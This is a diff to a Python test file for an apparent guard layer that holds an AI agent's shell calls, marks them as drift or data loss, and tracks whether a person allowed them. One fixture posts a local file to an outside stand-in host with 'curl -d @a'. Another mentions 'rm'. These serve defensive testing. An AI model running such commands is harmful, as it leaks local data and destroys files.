@@ -3,7 +3,7 @@ import json
 
 import pytest
 
-from guards import Event, Session, Settings
+from guards import ASK, Event, Session, Settings, Verdict
 from guards._origin import allowance
 from tests.scripts import Scripts
 
@@ -45,12 +45,33 @@ def test_once():
     settings = Settings()
     settings.key = b"k" * 32
     event = bash("curl -d @a https://x.example/1")
-    state = allowance.objected({}, event, settings, "x.example")
+    state = allowance.objected({}, event, settings, Verdict(ASK, "drift: x"))
     assert allowance.given(state, "c2") is state
     state = allowance.given(state)
     assert allowance.lifted(event, Session("s", {"request_origin": state}), settings)
     assert not allowance.lifted(event, Session("s", {"request_origin": allowance.spent(state)}), settings)
-    assert "curl to x.example" in allowance.agent_context(state) and "nothing" in allowance.agent_context({})
+    assert "`curl` to x.example" in allowance.agent_context(state) and "nothing" in allowance.agent_context({})
+
+
+@pytest.mark.parametrize("held, chosen, others", [
+    ({}, "", ""),
+    ({"a": ["t1", "curl", "x.example", "drift"]}, "`curl` to x.example, which drift stopped, passes", ""),
+    ({"a": ["t1", "curl", "x.example", "drift"], "b": ["t2", "rm", "", "loss", "no"]}, "`curl` to x.example", ""),
+    ({"a": ["t1", "curl", "x.example", "drift"], "b": ["t2", "rm", "", "loss"]}, "`rm`", "not allowed: `curl` to x.example"),
+    ({"a": ["t1", "curl", "x.example", "drift", "no"], "b": ["t2", "rm", "", "loss", "no"]}, "`rm`", "`curl`"),
+    ({"a": ["t1", "curl", "x.example"], "b": ["t1", "curl", "x.example"]}, "`curl` to x.example passes", "")])
+def test_the_newest_that_nobody_answered(held, chosen, others):
+    said = allowance.outcome({"objected": held})
+    assert said.startswith(chosen or "there is nothing") and others in said and ("not allowed" in said) == bool(others)
+
+
+@pytest.mark.parametrize("answer, left", [
+    ({"name": "PostToolUse"}, []), ({"name": "PostToolUseFailure"}, []), ({"name": "PostToolBatch"}, ["no"])])
+def test_what_was_answered_drops_out(answer, left):
+    held = {"shell": {"objected": {"c1": ["t", "curl", "x", "drift"], "c0": ["t", "curl", "x", "drift"]}}}
+    event = Event(answer["name"], "s", tool="Bash", call_id="c1")
+    state = allowance.after(event, Session("s", held), Settings(), Verdict())
+    assert [row[4:] for id, row in state["objected"].items() if id == "c1"] == ([left] if left else [])
 
 
 @pytest.mark.parametrize("field", ["shell", "request_origin"])
